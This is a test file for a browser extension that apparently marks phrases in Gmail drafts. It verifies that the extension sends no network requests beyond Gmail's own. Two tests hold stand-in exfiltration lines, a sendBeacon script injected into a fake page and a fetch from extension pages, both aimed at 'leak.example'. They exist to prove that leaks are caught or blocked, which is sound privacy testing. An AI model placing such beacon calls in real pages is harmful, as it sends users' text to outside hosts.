import { expect, it } from 'vitest';
import { openBrowser, press, seeInside } from './browser';
import { compose, restOn, untilMarked } from './drafting';
import { gmail, inbox } from './pages/gmail';

it('drafting, mending, sending and reading the popup makes no request but the page’s own', async () => {
  const browser = await openBrowser({ standIns: [gmail] });
  const page = await browser.context.newPage();
  await page.goto(inbox);
  await compose(page, 'We’ll circle back on the numbers.', 'Sorry if that was unclear. I’ll send the sheet by Friday.');
  await untilMarked(page, ['circle back', 'Sorry if']);
  const card = await restOn(page, 'circle back');
  await press(card.getByRole('button', { name: 'Apply' }));
  await untilMarked(page, ['Sorry if']);
  await page.keyboard.press('Control+Enter');
  await seeInside(page);
  await press(page.getByRole('dialog', { name: 'Add to your promises?' }).getByRole('button', { name: /^Add/ }));
  for (const name of ['popup', 'options', 'practice', 'workbook']) {
    const own = await browser.context.newPage();
    await own.goto(`${browser.origin}${name}.html`);
    await own.getByRole('main').waitFor();
    await own.close();
  }
  expect(browser.requests).toEqual(['GET https://mail.google.com/mail/u/0/']);
  expect(browser.problems).toEqual([]);
  expect(await browser.close()).toEqual([]);
});

it('and a request would have been seen: a page that makes one is', async () => {
  const asks = `${gmail.html}<script>navigator.sendBeacon('https://leak.example/beacon', 'words')</script>`;
  const browser = await openBrowser({ standIns: [{ ...gmail, html: asks }] });
  const page = await browser.context.newPage();
  await page.goto(inbox);
  await expect
    .poll(() => browser.requests)
    .toEqual(['GET https://mail.google.com/mail/u/0/', 'POST https://leak.example/beacon']);
  expect(await browser.close()).toEqual(['https://mail.google.com https://leak.example/beacon']);
});

it('and our own pages and background could not make one', async () => {
  const browser = await openBrowser();
  const own = await browser.context.newPage();
  await own.goto(`${browser.origin}popup.html`);
  const ask = `fetch('https://leak.example/').then(() => 'sent', () => 'stopped')`;
  expect(await own.evaluate(ask)).toBe('stopped');
  expect(await browser.inBackground(ask)).toBe('stopped');
  expect(await browser.close()).toEqual([]);
});
